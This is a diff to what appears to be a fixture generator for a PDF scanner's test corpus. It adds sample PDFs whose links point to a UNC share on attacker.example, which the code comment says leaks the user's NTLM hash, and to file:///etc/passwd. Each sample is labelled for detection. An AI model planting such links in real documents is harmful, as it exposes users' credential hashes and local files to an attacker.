@@ -218,6 +218,29 @@ def embedded_file_in_names() -> bytes:
     return build(objects)
 
 
+def _link_leaving(action: bytes) -> bytes:
+    objects = simple_objects(page_extra=b"/Annots [6 0 R] ")
+    objects[6] = b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A " + action + b" >>"
+    return build(objects)
+
+
+def remote_goto_link() -> bytes:
+    """A link into another PDF on a file server: Windows sends the user's NTLM hash to it."""
+    return _link_leaving(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\a.pdf) /D [0 /Fit] >>")
+
+
+def file_uri_link() -> bytes:
+    return _link_leaving(b"<< /S /URI /URI (file:///etc/passwd) >>")
+
+
+def unc_uri_link() -> bytes:
+    return _link_leaving(b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x) >>")
+
+
+def open_action_to_another_file() -> bytes:
+    return build(simple_objects(catalog_extra=b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >> "))
+
+
 def junk_before_header() -> bytes:
     return build(simple_objects(), prefix=b"\x89JUNK" + b"A" * 2000 + b"\n")
 
@@ -354,6 +377,10 @@ CORPUS: dict[str, tuple[Callable[[], bytes], set[str], str]] = {
     "launch_page_open_action": (launch_in_page_open_action, {"active_content"}, ""),
     "embedded_file_annotation": (embedded_file_annotation, {"embedded_file"}, ""),
     "embedded_file_names": (embedded_file_in_names, {"embedded_file"}, ""),
+    "remote_goto_link": (remote_goto_link, {"remote_link"}, ""),
+    "file_uri_link": (file_uri_link, {"remote_link"}, ""),
+    "unc_uri_link": (unc_uri_link, {"remote_link"}, ""),
+    "open_action_to_another_file": (open_action_to_another_file, {"remote_link"}, ""),
     "junk_before_header": (junk_before_header, {"not_pdf"}, ""),
     "polyglot_html": (polyglot_html, {"not_pdf"}, ""),
     "polyglot_zip": (polyglot_zip, {"not_pdf"}, "appended_file"),
